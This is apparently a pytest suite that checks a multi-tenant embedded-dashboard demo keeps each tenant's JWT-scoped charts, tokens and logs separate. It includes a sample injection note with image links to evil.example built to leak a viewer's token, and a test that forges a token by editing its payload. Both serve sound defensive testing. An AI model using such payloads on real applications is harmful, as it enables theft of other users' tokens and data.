"""The demo end to end, over real sockets: what a browser does, checked from the outside.

Both servers run on loopback on free ports. A cookie jar plays the browser: it logs in, loads the
page, follows the iframes to the dashboard server and checks whose chart came back. The dashboard's
verdicts on forged, misused and expired tokens are checked against its JSON reasons.
"""

from __future__ import annotations

import base64
import html
import json
import re
import secrets
import time
import urllib.error
import urllib.parse
import urllib.request
from collections.abc import Iterator

import jwt
import pytest
from markupsafe import escape

from examples.dashboard_server import WORKSPACE_ID
from examples.demo import RunningDemo, redact, start_demo
from tests.support.http_client import Browser, Reply
from tests.support.tokens import JWT_TEXT as JWT

SIGNING_KEY = secrets.token_urlsafe(48)
NAMES = {"acme": "Acme Travel", "globex": "Globex Holidays"}
#: Rows only one tenant's chart can contain (the dashboard's data is deliberately disjoint).
OWN_ROWS = {
    "acme": {"top_airlines": "Lufthansa", "bookings_by_day": 'data-label="Sat" data-value="240"'},
    "globex": {"top_airlines": "Delta", "bookings_by_day": 'data-label="Sat" data-value="180"'},
}
IFRAME_SRC = re.compile(r"<iframe\b[^>]*?\bsrc=\"([^\"]*)\"")
NOTE = re.compile(r'<p id="note">(.*?)</p>', re.S)


@pytest.fixture(scope="module")
def demo() -> Iterator[RunningDemo]:
    running = start_demo(SIGNING_KEY)
    try:
        yield running
    finally:
        running.stop()


def logged_in(demo: RunningDemo, tenant: str) -> Browser:
    browser = Browser()
    reply = browser.post(f"{demo.host_url}/login", {"tenant": tenant})
    assert reply.status == 200
    assert reply.url == f"{demo.host_url}/", "login should land on the dashboard page"
    return browser


def iframe_urls(page: str) -> dict[str, str]:
    """``{resource: src}`` for every iframe on the page."""
    urls = {}
    for raw in IFRAME_SRC.findall(page):
        src = html.unescape(raw)
        resource = urllib.parse.urlsplit(src).path.rsplit("/", 1)[-1]
        urls[resource] = src
    return urls


def token_of(url: str) -> str:
    return urllib.parse.parse_qs(urllib.parse.urlsplit(url).query)["token"][0]


def with_token(url: str, token: str) -> str:
    base = url.split("?", 1)[0]
    return f"{base}?{urllib.parse.urlencode({'token': token})}"


def page_tokens(demo: RunningDemo, tenant: str) -> dict[str, str]:
    reply = logged_in(demo, tenant).get(f"{demo.host_url}/")
    return {resource: token_of(src) for resource, src in iframe_urls(reply.body).items()}


def assert_rejected(reply: Reply, reason: str) -> None:
    assert reply.status == 403, reply.body
    assert reply.headers.get_content_type() == "application/json"
    assert reply.json() == {"error": reason}
    assert reply.headers["Cache-Control"] == "no-store"


@pytest.mark.parametrize(("tenant", "other"), [("acme", "globex"), ("globex", "acme")])
def test_each_tenant_sees_only_its_own_charts(demo: RunningDemo, tenant: str, other: str) -> None:
    page = logged_in(demo, tenant).get(f"{demo.host_url}/")
    assert page.status == 200
    assert f"Analytics for {NAMES[tenant]}" in page.body
    urls = iframe_urls(page.body)
    assert set(urls) == {"top_airlines", "bookings_by_day"}
    assert not any("JWT_TOKEN" in src for src in urls.values()), "the app's own placeholders are filled"
    assert len(JWT.findall(page.body)) == 2, "a token goes into the two iframes and nowhere else"

    for resource, src in urls.items():
        assert src.startswith(f"{demo.dashboard_url}/embed/{resource}?token=")
        claims = jwt.decode(token_of(src), SIGNING_KEY, algorithms=["HS256"])
        assert claims["workspace_id"] == WORKSPACE_ID
        assert claims["scopes"] == [
            {"type": "PIPES:READ", "resource": resource, "fixed_params": {"tenant_id": tenant}}
        ]
        assert 0 < claims["exp"] - claims["iat"] <= 600

        chart = Browser().get(src)  # a fresh jar: the iframe carries no host-app cookie
        assert chart.status == 200, chart.body
        assert chart.headers.get_content_type() == "text/html"
        assert chart.headers["Cache-Control"] == "no-store"
        assert f'data-tenant="{tenant}"' in chart.body
        assert f'data-resource="{resource}"' in chart.body
        assert f"— {NAMES[tenant]}</title>" in chart.body
        assert OWN_ROWS[tenant][resource] in chart.body
        assert NAMES[other] not in chart.body
        assert f'data-tenant="{other}"' not in chart.body
        assert OWN_ROWS[other][resource] not in chart.body


ATTACKER_NOTE = (
    '<img src="https://evil.example/a.png?t=<JWT_TOKEN:top_airlines>"> '
    "![pic](https://evil.example/p.png?t=%3CJWT_TOKEN%3Abookings_by_day%3E) &lt;JWT_TOKEN&gt; <JWT_TOKEN>"
)


def test_a_note_written_by_another_tenant_never_gets_the_viewers_token(demo: RunningDemo) -> None:
    """Placeholder text globex's user typed into the shared note stays text on acme's page."""
    attacker = logged_in(demo, "globex")
    assert attacker.post(f"{demo.host_url}/note", {"note": ATTACKER_NOTE}).status == 200
    try:
        page = logged_in(demo, "acme").get(f"{demo.host_url}/")
        note = NOTE.search(page.body)
        assert note is not None
        assert note.group(1) == str(escape(ATTACKER_NOTE)), "user content arrives exactly as rendered"
        assert "eyJ" not in note.group(1)
        assert len(JWT.findall(page.body)) == 2, "the two iframes still get their tokens"
        assert set(iframe_urls(page.body)) == {"top_airlines", "bookings_by_day"}
    finally:
        attacker.post(f"{demo.host_url}/note", {"note": "Welcome!"})


def test_page_with_tokens_is_never_cached(demo: RunningDemo) -> None:
    page = logged_in(demo, "acme").get(f"{demo.host_url}/")
    assert page.status == 200
    assert page.headers["Cache-Control"] == "private, no-store"
    assert "cookie" in page.headers["Vary"].lower()


def test_without_login_no_token_is_served(demo: RunningDemo) -> None:
    browser = Browser()
    page = browser.get(f"{demo.host_url}/")
    assert page.status == 200
    assert page.url == f"{demo.host_url}/login"
    assert "<iframe" not in page.body
    assert "eyJ" not in page.body

    endpoint = browser.get(f"{demo.host_url}/embed/token?resource=top_airlines")
    assert endpoint.status == 401
    assert endpoint.json() == {"error": "no_tenant"}


def test_logout_ends_the_tokens(demo: RunningDemo) -> None:
    browser = logged_in(demo, "globex")
    page = browser.post(f"{demo.host_url}/logout", {})
    assert page.url == f"{demo.host_url}/login"
    assert browser.get(f"{demo.host_url}/").url == f"{demo.host_url}/login"
    assert browser.get(f"{demo.host_url}/embed/token?resource=top_airlines").status == 401


def test_login_refuses_unknown_tenants(demo: RunningDemo) -> None:
    browser = Browser()
    assert browser.post(f"{demo.host_url}/login", {"tenant": "initech"}).status == 400
    assert browser.get(f"{demo.host_url}/").url == f"{demo.host_url}/login"


def test_token_endpoint_refreshes_for_the_session_tenant(demo: RunningDemo) -> None:
    browser = logged_in(demo, "globex")
    reply = browser.get(f"{demo.host_url}/embed/token?resource=bookings_by_day")
    assert reply.status == 200, reply.body
    assert reply.headers["Cache-Control"] == "private, no-store"
    token = reply.json()["token"]
    chart = Browser().get(f"{demo.dashboard_url}/embed/bookings_by_day?token={token}")
    assert chart.status == 200
    assert 'data-tenant="globex"' in chart.body

    assert browser.get(f"{demo.host_url}/embed/token?resource=revenue").status == 404


def test_tampered_token_is_invalid(demo: RunningDemo) -> None:
    """acme's genuine token with the tenant in its payload changed to globex, signature kept."""
    token = page_tokens(demo, "acme")["top_airlines"]
    header, payload, signature = token.split(".")
    claims = json.loads(base64.urlsafe_b64decode(payload + "=" * (-len(payload) % 4)))
    claims["scopes"][0]["fixed_params"]["tenant_id"] = "globex"
    forged = base64.urlsafe_b64encode(json.dumps(claims).encode()).rstrip(b"=").decode()
    reply = Browser().get(f"{demo.dashboard_url}/embed/top_airlines?token={header}.{forged}.{signature}")
    assert_rejected(reply, "invalid")
    assert "Globex" not in reply.body


def test_token_signed_with_another_key_is_invalid(demo: RunningDemo) -> None:
    now = int(time.time())
    claims = {
        "workspace_id": WORKSPACE_ID,
        "name": "forged",
        "iat": now,
        "exp": now + 600,
        "scopes": [{"type": "PIPES:READ", "resource": "top_airlines", "fixed_params": {"tenant_id": "acme"}}],
    }
    token = jwt.encode(claims, secrets.token_urlsafe(48), algorithm="HS256")
    assert_rejected(Browser().get(f"{demo.dashboard_url}/embed/top_airlines?token={token}"), "invalid")
    assert_rejected(Browser().get(f"{demo.dashboard_url}/embed/top_airlines"), "invalid")


def test_token_for_one_chart_does_not_open_another(demo: RunningDemo) -> None:
    tokens = page_tokens(demo, "acme")
    url = f"{demo.dashboard_url}/embed/bookings_by_day?token={tokens['top_airlines']}"
    assert_rejected(Browser().get(url), "out_of_scope")
    # and the matching token does open it, so the rejection is about scope, not the token
    assert Browser().get(with_token(url, tokens["bookings_by_day"])).status == 200


def test_expired_token_is_refused(demo: RunningDemo) -> None:
    now = int(time.time())
    claims = {
        "workspace_id": WORKSPACE_ID,
        "name": "embed_acme",
        "iat": now - 900,
        "exp": now - 300,
        "scopes": [{"type": "PIPES:READ", "resource": "top_airlines", "fixed_params": {"tenant_id": "acme"}}],
    }
    token = jwt.encode(claims, SIGNING_KEY, algorithm="HS256")
    reply = Browser().get(f"{demo.dashboard_url}/embed/top_airlines?token={token}")
    assert_rejected(reply, "expired")
    claims["exp"] = now + 300  # the same token, still valid: proves the 403 was about the expiry
    fresh = jwt.encode(claims, SIGNING_KEY, algorithm="HS256")
    assert Browser().get(f"{demo.dashboard_url}/embed/top_airlines?token={fresh}").status == 200


def test_request_logs_never_carry_a_token() -> None:
    line = "GET /embed/top_airlines?token=eyJhbGciOi.eyJzdWIi.c2lnbmF0dXJl&x=1 HTTP/1.1"
    assert redact(line) == "GET /embed/top_airlines?token=[redacted]&x=1 HTTP/1.1"
    assert "eyJ" not in redact("Bad request version ('eyJa.eyJb.sig')")


def _views(demo: RunningDemo, tenant: str, views: int) -> list[int]:
    """Loads the page ``views`` times and its iframes as a browser would; the count after each view."""
    browser = logged_in(demo, tenant)
    counts = []
    for _ in range(views):
        for src in iframe_urls(browser.get(f"{demo.host_url}/").body).values():
            chart = browser.get(src)
            assert chart.status == 200 and OWN_ROWS[tenant][
                "top_airlines" if "top" in src else "bookings_by_day"
            ] in (chart.body)
        counts.append(json.loads(browser.get(f"{demo.dashboard_url}/stats").body)["queries_run"][tenant])
    return counts


def test_without_reuse_every_reload_runs_the_queries_again(demo: RunningDemo) -> None:
    before = json.loads(Browser().get(f"{demo.dashboard_url}/stats").body)["queries_run"]["globex"]
    assert [count - before for count in _views(demo, "globex", 3)] == [2, 4, 6]


def test_with_reuse_reloading_runs_no_queries() -> None:
    running = start_demo(SIGNING_KEY, reuse_window=300)
    try:
        browser = logged_in(running, "acme")
        page = browser.get(f"{running.host_url}/").body
        assert "Token reuse is on" in page
        counts = _views(running, "acme", 3)
        chart = browser.get(iframe_urls(browser.get(f"{running.host_url}/").body)["top_airlines"]).body
    finally:
        running.stop()
    # Two charts: two queries on the first view, none on reloads (at most one window boundary between).
    assert counts[0] == 2 and counts[-1] <= 4 and (counts[1] == counts[0] or counts[2] == counts[1]), counts
    assert "Queries run for this tenant (brand-new tokens): " in chart
